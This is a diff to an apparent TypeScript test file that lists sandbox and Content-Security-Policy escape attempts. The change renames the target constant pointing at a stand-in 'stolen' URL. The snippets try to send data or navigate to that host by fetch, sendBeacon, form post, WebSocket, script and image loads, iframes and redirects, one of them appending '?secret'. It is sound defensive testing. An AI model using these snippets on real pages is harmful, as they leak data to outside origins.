@@ -10,7 +10,7 @@ export interface Attempt {
   readonly without: RemovedGuards;
 }
 
-const elsewhere = 'http://elsewhere.localhost/stolen';
+const foreignUrl = 'http://elsewhere.localhost/stolen';
 const directive = (name: string, value = '*') => ({
   policy: (policy: string) => policy.replace(new RegExp(`(^|; )${name} [^;]*`), `$1${name} ${value}`),
 });
@@ -32,7 +32,7 @@ export const attempts: readonly Attempt[] = [
   },
   {
     name: 'navigates the whole window',
-    code: `top.location.href = '${elsewhere}'; await pause(300);`,
+    code: `top.location.href = '${foreignUrl}'; await pause(300);`,
     without: {
       frame: 'allow-top-navigation',
       page: inner('allow-top-navigation'),
@@ -41,7 +41,7 @@ export const attempts: readonly Attempt[] = [
   },
   {
     name: 'opens a window',
-    code: `const w = open('${elsewhere}'); await pause(300); if (!w) throw new Error('no window');`,
+    code: `const w = open('${foreignUrl}'); await pause(300); if (!w) throw new Error('no window');`,
     without: {
       frame: 'allow-popups',
       page: inner('allow-popups'),
@@ -50,7 +50,7 @@ export const attempts: readonly Attempt[] = [
   },
   {
     name: 'sends a form',
-    code: `const f = document.createElement('form'); f.action = '${elsewhere}'; f.method = 'post'; document.body.append(f); f.submit(); await pause(300);`,
+    code: `const f = document.createElement('form'); f.action = '${foreignUrl}'; f.method = 'post'; document.body.append(f); f.submit(); await pause(300);`,
     without: {
       frame: 'allow-forms',
       page: inner('allow-forms'),
@@ -61,8 +61,8 @@ export const attempts: readonly Attempt[] = [
           .replace('sandbox allow', 'sandbox allow-forms allow'),
     },
   },
-  { name: 'fetches from another origin', code: `await fetch('${elsewhere}', { mode: 'no-cors' });`, without: directive('connect-src') },
-  { name: 'sends a beacon', code: `navigator.sendBeacon('${elsewhere}', 'x'); await pause(300);`, without: directive('connect-src') },
+  { name: 'fetches from another origin', code: `await fetch('${foreignUrl}', { mode: 'no-cors' });`, without: directive('connect-src') },
+  { name: 'sends a beacon', code: `navigator.sendBeacon('${foreignUrl}', 'x'); await pause(300);`, without: directive('connect-src') },
   {
     name: 'opens a WebSocket',
     code: event(`const s = new WebSocket('ws://elsewhere.localhost/'); s.onerror = reject; s.onopen = resolve;`),
@@ -70,38 +70,38 @@ export const attempts: readonly Attempt[] = [
   },
   {
     name: 'loads an image',
-    code: event(`const i = new Image(); i.onerror = reject; i.onload = resolve; i.src = '${elsewhere}';`),
+    code: event(`const i = new Image(); i.onerror = reject; i.onload = resolve; i.src = '${foreignUrl}';`),
     without: directive('img-src'),
   },
   {
     name: 'loads a script',
     code: event(
-      `const s = document.createElement('script'); s.onerror = reject; s.onload = resolve; s.src = '${elsewhere}'; document.head.append(s);`,
+      `const s = document.createElement('script'); s.onerror = reject; s.onload = resolve; s.src = '${foreignUrl}'; document.head.append(s);`,
     ),
     without: directive('script-src', `* 'unsafe-inline'`),
   },
   {
     name: 'loads a style sheet',
     code: event(
-      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = reject; l.onload = resolve; l.href = '${elsewhere}'; document.head.append(l);`,
+      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = reject; l.onload = resolve; l.href = '${foreignUrl}'; document.head.append(l);`,
     ),
     without: directive('style-src', `* 'unsafe-inline'`),
   },
   { name: 'evaluates a string as code', code: `return eval('1 + 1');`, without: directive('script-src', `'unsafe-inline' 'unsafe-eval'`) },
   {
     name: 'embeds a page of another origin in a frame',
-    code: `const f = document.createElement('iframe'); f.src = '${elsewhere}'; document.body.append(f); await pause(300);`,
+    code: `const f = document.createElement('iframe'); f.src = '${foreignUrl}'; document.body.append(f); await pause(300);`,
     without: directive('frame-src'),
   },
   {
     name: 'navigates its own frame to another origin',
-    code: `location.href = '${elsewhere}?secret';`,
+    code: `location.href = '${foreignUrl}?secret';`,
     endsIn: 'no frame',
     without: directive('frame-src'),
   },
   {
     name: 'redirects itself to another origin by meta refresh',
-    code: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${elsewhere}'; document.head.append(m);`,
+    code: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${foreignUrl}'; document.head.append(m);`,
     endsIn: 'no frame',
     without: directive('frame-src'),
   },
